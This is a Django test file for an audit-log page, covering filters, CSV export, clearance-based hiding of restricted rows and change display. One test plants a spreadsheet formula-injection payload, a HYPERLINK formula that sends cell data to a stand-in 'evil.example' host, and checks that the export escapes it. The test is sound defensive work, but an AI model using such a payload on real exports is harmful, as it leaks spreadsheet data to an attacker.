import csv
import io

import pytest

from console.audit import audit_record

pytestmark = pytest.mark.django_db


def test_audit_log_filters_by_actor_and_verb(client, admin_user, reviewer, curator):
    audit_record(verb="answer.approve", obj=reviewer, actor=reviewer, note="by reviewer")
    audit_record(verb="version.upload", obj=curator, actor=curator, note="by curator")
    client.force_login(admin_user)

    page = client.get("/audit/?actor=rita&verb=answer.").content.decode()

    assert "by reviewer" in page
    assert "by curator" not in page


def test_audit_log_exports_csv(client, admin_user, reviewer):
    audit_record(verb="answer.approve", obj=reviewer, actor=reviewer, note="exported, with comma")
    client.force_login(admin_user)

    response = client.get("/audit/?format=csv")

    assert response["Content-Type"] == "text/csv"
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert rows[0][:3] == ["time", "actor", "verb"]
    assert rows[1][1:3] == [reviewer.username, "answer.approve"]
    assert rows[1][-1] == "exported, with comma"


def _csv_rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))


def test_audit_log_shows_no_row_above_the_viewers_clearance_in_html_or_csv(
    client, approver, admin_user, make_answer,
):
    from kb import services
    from review.services import api_client_create

    for key, title, level in (("handbook", "Staff handbook", "internal"), ("merger", "Merger plan", "restricted")):
        services.document_create(key=key, title=title, owner=admin_user, security_level=level,
                                 created_by=admin_user)
    secret_answer = make_answer(question="When is the merger announced?", evidence_level="restricted")
    audit_record(verb="answer.reject", obj=secret_answer, actor=admin_user, note="merger date is wrong")
    audit_record(verb="claim.rejected", obj=secret_answer.claims.first(), actor=admin_user, note="merger claim")
    api_client_create(name="payroll-bot", clearance="restricted")

    client.force_login(approver)  # confidential clearance, not an admin
    page = client.get("/audit/").content.decode()
    exported = "\n".join(",".join(row) for row in _csv_rows(client.get("/audit/?format=csv")))
    client.force_login(admin_user)
    admin_exported = "\n".join(",".join(row) for row in _csv_rows(client.get("/audit/?format=csv")))

    for shown in (page, exported):
        assert "Staff handbook" in shown
        assert "Merger plan" not in shown
        assert "merger" not in shown.lower()  # neither the answer's nor the claim's rows
        assert "payroll-bot" not in shown  # rows about API clients and users are for admins
    for secret in ("Merger plan", "merger date is wrong", "merger claim", "payroll-bot"):
        assert secret in admin_exported


def test_audit_log_filters_cannot_reach_rows_above_clearance(client, approver, admin_user):
    from kb import services

    document = services.document_create(key="merger", title="Merger plan", owner=admin_user,
                                        security_level="restricted", created_by=admin_user)
    client.force_login(approver)

    page = client.get(f"/audit/?object_type=kb.document&object_id={document.pk}").content.decode()

    assert "Merger plan" not in page
    assert "No audit events match these filters." in page


def test_audit_csv_cells_that_would_run_as_formulas_are_quoted(client, admin_user):
    from kb import services

    document = services.document_create(key="evil", title='=HYPERLINK("http://evil.example/?x="&A1,"open")',
                                        owner=admin_user, security_level="internal", created_by=admin_user)
    for note in ("+1+1", "-2+3", "@SUM(A1:A9)", "\tcmd", "\rcmd", "plain = text"):
        audit_record(verb="document.note", obj=document, actor=admin_user, note=note)
    client.force_login(admin_user)

    rows = _csv_rows(client.get("/audit/?format=csv&object_type=kb.document"))

    header = rows[0]
    objects = {row[header.index("object")] for row in rows[1:]}
    notes = [row[header.index("note")] for row in rows[1:] if row[header.index("verb")] == "document.note"]
    assert objects == {'\'=HYPERLINK("http://evil.example/?x="&A1,"open")'}
    assert sorted(notes) == sorted(["'+1+1", "'-2+3", "'@SUM(A1:A9)", "'\tcmd", "'\rcmd", "plain = text"])


def test_audit_log_shows_changes_as_readable_lines(client, admin_user, reviewer):
    long_claim = "Refunds are paid within fourteen days of the request. " * 10
    audit_record(verb="answer.score", obj=reviewer, actor=reviewer, before={"risk": "high", "score": 0.2},
                 after={"risk": "medium", "score": 0.2, "released_text": long_claim, "overrides_checker": False})
    client.force_login(admin_user)

    page = client.get("/audit/").content.decode()

    assert ('<span class="field">risk:</span>\n            '
            '<span class="old">high</span> → <span class="new">medium</span>') in page
    assert "score:" not in page  # unchanged while something else changed
    assert '<span class="field">overrides checker:</span>\n            <span class="new">no</span>' in page
    assert long_claim not in page and "…</span></li>" in page  # cut short inside its own line
    assert "{&#x27;risk&#x27;" not in page and "{'risk'" not in page


def test_audit_log_filters_come_from_dropdowns_of_what_happened(client, admin_user, reviewer, curator):
    audit_record(verb="answer.approve", obj=reviewer, actor=reviewer, note="approved it")
    audit_record(verb="version.approve", obj=curator, actor=curator, note="approved the version")
    client.force_login(admin_user)

    page = client.get("/audit/").content.decode()
    one_verb = client.get("/audit/?verb=version.approve").content.decode()
    by_type = client.get("/audit/?object_type=console.user&verb=answer.").content.decode()

    assert '<select name="verb" id="id_verb">' in page
    assert '<option value="answer.">any answer action</option>' in page
    assert '<option value="version.approve">version.approve</option>' in page
    assert '<option value="console.user">user</option>' in page
    assert "approved the version" in one_verb and "approved it<" not in one_verb
    assert "approved it" in by_type and "approved the version" not in by_type


def test_lease_and_no_op_events_are_hidden_unless_asked_for(client, admin_user, reviewer):
    audit_record(verb="answer.lease", obj=reviewer, actor=reviewer, after={"until": "2026-12-01T10:00"})
    audit_record(verb="claim.confirmed", obj=reviewer, actor=reviewer, before={"review_state": "confirmed"},
                 after={"review_state": "confirmed"})
    audit_record(verb="claim.rejected", obj=reviewer, actor=reviewer, before={"review_state": "open"},
                 after={"review_state": "rejected"})
    client.force_login(admin_user)

    page = client.get("/audit/").content.decode()
    everything = client.get("/audit/?include_routine=on").content.decode()

    assert "claim.rejected" in page
    assert "<code>answer.lease</code>" not in page and "<code>claim.confirmed</code>" not in page
    assert 'name="include_routine"' in page and "Show lease and no-op events" in page
    assert "<code>answer.lease</code>" in everything and "<code>claim.confirmed</code>" in everything
